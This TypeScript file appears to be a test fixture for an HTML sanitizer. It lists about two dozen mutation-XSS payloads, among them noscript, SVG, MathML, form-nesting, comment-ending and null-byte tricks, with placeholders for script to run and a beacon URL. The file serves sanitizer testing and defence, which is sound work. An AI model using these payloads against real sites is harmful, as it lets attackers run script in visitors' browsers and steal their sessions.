import { hostile } from '../hostile-page';

const IMG = '<img src=x onerror="{{run}}">';

/** Markup that means one thing to one parser and another to the next. */
const MUTATIONS: Record<string, string> = {
  'noscript-attribute': `<noscript><p title="</noscript>${IMG}">x</p></noscript>`,
  'style-in-svg': `<svg></p><style><a id="</style>${IMG}"></style></svg>`,
  'math-style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}"></mglyph></table></mtext></math>`,
  'math-annotation': `<math><annotation-xml encoding="text/html"><style>${IMG}</style></annotation-xml></math>`,
  'math-comment': `<math><!--</math>${IMG}--><mi>x</mi></math>`,
  'math-link':
    '<math href="javascript:{{run}}"><mtext xlink:href="javascript:{{run}}">formula</mtext></math>',
  'foreign-object': `<svg><foreignObject><p>drawn</p>${IMG}<iframe srcdoc="<script>{{run}}</script>"></iframe></foreignObject></svg>`,
  'svg-events':
    '<svg onload="{{run}}"><set attributeName="x" onbegin="{{run}}"/><animate onend="{{run}}" dur="1ms"/></svg>',
  'svg-animated-link':
    '<svg><a><animate attributeName="href" values="javascript:{{run}}"/><text>press</text></a></svg>',
  'svg-use':
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{{run}}'/>#x\"/><script>{{run}}</script></svg>",
  'form-in-form': `<form><div></form><form><math><mtext></form><form><mglyph><style></math>${IMG}</style></mglyph></form>`,
  'table-fostering': `<table><style><!--</style></table>${IMG}--><tr><td>${IMG}`,
  'select-break': `<select><option><p>${IMG}</p></option></select><select><svg>${IMG}</svg></select>`,
  'template-nested': `<template><template>${IMG}</template><script>{{run}}</script></template>`,
  'declared-shadow': `<div><template shadowrootmode="open"><p>In the shade rang a bell.</p>${IMG}<slot></slot></template><p>Slotted.</p></div>`,
  'raw-text': `<xmp>${IMG}</xmp><listing>&lt;img src=x onerror="{{run}}"&gt;</listing><noembed>${IMG}</noembed><noframes>${IMG}</noframes>`,
  'textarea-title': `<textarea></textarea${IMG}><p title="<title>${IMG}</title>"></textarea><svg><title>${IMG}</title></svg>`,
  'comment-endings': `<!--> ${IMG} --><!---> ${IMG} --><!-- --!> ${IMG} --><!-x ${IMG}>`,
  'cdata-and-instructions': `<svg><![CDATA[</svg>${IMG}]]></svg><?xml-stylesheet href="{{beacon}}/a.xsl"?><![CDATA[${IMG}]]>`,
  'custom-elements': `<x-bell onclick="{{run}}" is="x-bell">A made-up element.</x-bell><p is="x-p">${IMG}</p>`,
  'attribute-breaks':
    '<p title=\'"><script>{{run}}</script>\' lang="&quot;onclick=&quot;{{run}}" dir=`x`onclick={{run}}//>x</p>',
  'href-breaks':
    '<a href="https://a.example/&quot;onmouseover=&quot;{{run}}">x</a><a href="#&quot;><img src=x onerror={{run}}>">y</a>',
  'slash-names':
    '<img/src=x/onerror={{run}}//><p/id=x/onclick={{run}}>x</p><img src=x onerror\u000c={{run}}>',
  'null-names': '<scr\u0000ipt>{{run}}</scr\u0000ipt><img src=x on\u0000error={{run}}>',
};

const STARRED = new Set([
  'noscript-attribute',
  'math-style',
  'foreign-object',
  'declared-shadow',
  'form-in-form',
]);

export const MARKUP = [
  ...Object.entries(MUTATIONS).map(([name, inside]) =>
    hostile(name, { inside: `<div>${inside}</div>` }, { star: STARRED.has(name) }),
  ),
  hostile('plaintext', { after: '<plaintext>The rest is text.' }),
  hostile('unclosed-everything', {
    after: '<table><tr><td><select><option><svg><math><mi><p title="',
  }),
];
